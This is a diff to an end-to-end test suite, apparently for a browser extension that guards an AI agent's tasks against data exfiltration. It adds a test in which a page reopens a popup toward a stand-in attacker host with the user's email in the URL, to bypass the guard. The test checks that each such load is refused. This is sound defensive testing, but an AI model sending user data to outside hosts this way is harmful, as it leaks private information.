@@ -5,9 +5,8 @@
  *   site is stopped, and so is a new window it opens with that data;
  * - the user's own loads in the same tab and in new tabs (an address typed: the browser starts it) go at once,
  *   data or not, and a link the user opens in a new tab loads after one round trip to the worker;
- * - the cost, printed: a load the page makes in the watched tab, and a link opened in a new tab, with and without
- *   a task watching.
- * The attacks that wait until the approved action settled are in attacks/later.ts (redteam-attacks.e2e.ts).
+ * - the cost, printed: a page's load in the watched tab, a link opened in a new tab, with and without a task.
+ * Attacks that wait until the approved action settled: attacks/later.ts (redteam-attacks.e2e.ts).
  */
 import type { Page } from 'puppeteer';
 import { afterAll, beforeAll, expect, it } from 'vitest';
@@ -46,7 +45,6 @@ const decisions = async (): Promise<string[]> =>
 const canaryGot = (path: string) => h.servers.canary.requests.some((r) => r.url.startsWith(path));
 const step = (what: string) => process.env.DEBUG_LOADS && console.log(new Date().toISOString().slice(11, 23), what);
 const median = (xs: number[]) => [...xs].sort((a, b) => a - b)[Math.floor(xs.length / 2)]!;
-
 /** Time for the page's own script to load a page of its site and for it to finish loading. */
 async function pageMadeLoad(page: Page, url: string): Promise<number> {
   const t = performance.now();
@@ -212,6 +210,41 @@ it("a page framing our palette page does not hang the tab's loads while a task w
   await h.page.goto(notes, { waitUntil: 'load' }).catch(() => undefined); // the paused request itself is aborted
   await until('the next page to load', async () => (await tab()) === `complete ${notes}`);
   expect(canaryGot('/framed-leak')).toBe(false);
+  gate.release();
+  await until('the task to end', async () => (await sessionView(h.ext, h.tabId)).status !== 'running');
+}, 60_000);
+
+it('a popup the guard judged stays guarded: its opener cannot load it again with the data', async () => {
+  // A new window's first load is blocked and judged. The page keeps a handle on the window (no noopener) and
+  // loads it again a moment later: that load is judged too, whether the first was let through (a harmless page)
+  // or refused (the tab stays on Chrome's error page). Before, a tab once judged was out of the rules for good.
+  const o = ctxOf(h);
+  await h.page.goto(o.page(o.VICTIM, 'notes.html'), { waitUntil: 'load' });
+  const gate = await taskWaitingOnModel();
+  const refusals = async () => (await decisions()).filter((d) => d.startsWith('page load:deny')).length;
+  // Opens a window kept under `name`, or loads the one already kept there again.
+  const load = (name: string, url: string) =>
+    h.page.evaluate(
+      (n, u) => {
+        const w = globalThis as unknown as Record<string, Window | null>;
+        if (w[n]) w[n].location.href = u;
+        else w[n] = window.open(u);
+      },
+      name,
+      url,
+    );
+  const before = await refusals();
+  await load('harmless', `${o.ATTACKER}/w/survey.html?pop=1`);
+  await until('the harmless popup to load', () => canaryGot('/w/survey.html?pop=1'));
+  await load('refused', `${o.ATTACKER}/first?e=${EMAIL}`);
+  await until('the first refusal', async () => (await refusals()) === before + 1);
+  await load('harmless', `${o.ATTACKER}/again?e=${EMAIL}`);
+  await load('refused', `${o.ATTACKER}/again2?e=${EMAIL}`);
+  await until('two more refusals', async () => (await refusals()) === before + 3);
+  expect(['/first', '/again', '/again2'].filter(canaryGot)).toEqual([]);
+  for (const p of await h.ext.browser.pages())
+    if (p.url().includes(o.ATTACKER) || p.url().startsWith('chrome-error')) await p.close();
+  await h.page.bringToFront();
   gate.release();
   await until('the task to end', async () => (await sessionView(h.ext, h.tabId)).status !== 'running');
 }, 60_000);
